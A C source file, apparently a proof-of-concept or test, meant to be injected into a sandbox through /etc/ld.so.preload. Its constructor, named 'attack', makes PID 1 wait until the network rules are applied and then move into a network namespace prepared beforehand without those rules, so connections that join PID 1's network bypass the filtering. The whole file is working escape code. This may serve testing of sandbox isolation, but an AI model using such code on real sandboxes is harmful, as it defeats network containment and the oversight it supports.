/*
 * As the library of /etc/ld.so.preload of a sandbox with network `internet`: leaves the network that has rules. PID 1
 * says that it is ready, waits until user namespaces are closed, if that happens soon, and some milliseconds more
 * (/root/delay) so that the rules are set, then moves into a network namespace that it made beforehand. Whoever now connects "the network of
 * PID 1" connects one without rules. /root/moved tells how far it came.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <net/if.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

enum { LONGEST_WAIT_TRIES = 100 };

static void wait_until_closed(void) {
  for (int tries = 0; tries < LONGEST_WAIT_TRIES; tries++) {
    char value[16] = "";
    int file = open("/proc/sys/user/max_user_namespaces", O_RDONLY | O_CLOEXEC);
    read(file, value, sizeof value - 1);
    close(file);
    if (value[0] == '0') return;
    usleep(100);
  }
}

static int open_namespace(pid_t process, const char *kind) {
  char path[64];
  sprintf(path, "/proc/%d/ns/%s", process, kind);
  return open(path, O_RDONLY | O_CLOEXEC);
}

static void bring_loopback_up(void) {
  struct ifreq request = {.ifr_name = "lo", .ifr_flags = IFF_UP | IFF_RUNNING};
  int link = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  ioctl(link, SIOCSIFFLAGS, &request);
  close(link);
}

__attribute__((constructor)) static void attack(void) {
  char made_by_child = '?';
  int made[2], delay_ms = 10;
  if (getpid() != 1 || unlink("/root/once")) return;
  FILE *seen = fopen("/root/moved", "w"), *delay = fopen("/root/delay", "r");
  if (delay) {
    fscanf(delay, "%d", &delay_ms);
    fclose(delay);
  }
  pipe(made);
  pid_t child = fork();
  if (!child) {
    write(made[1], unshare(CLONE_NEWUSER | CLONE_NEWNET) ? "n" : "y", 1);
    for (;;) pause();
  }
  read(made[0], &made_by_child, 1);
  close(made[0]);
  close(made[1]);
  int users = open_namespace(child, "user"), network = open_namespace(child, "net");
  write(1, "ready\n", 6); /* PID 1's own command says it again */
  wait_until_closed();
  usleep(delay_ms * 1000);
  int joined_users = setns(users, CLONE_NEWUSER), joined_network = setns(network, CLONE_NEWNET);
  fprintf(seen, "made %c, joined users %d, joined network %d: %s\n", made_by_child, joined_users, joined_network, strerror(errno));
  fclose(seen);
  bring_loopback_up();
}
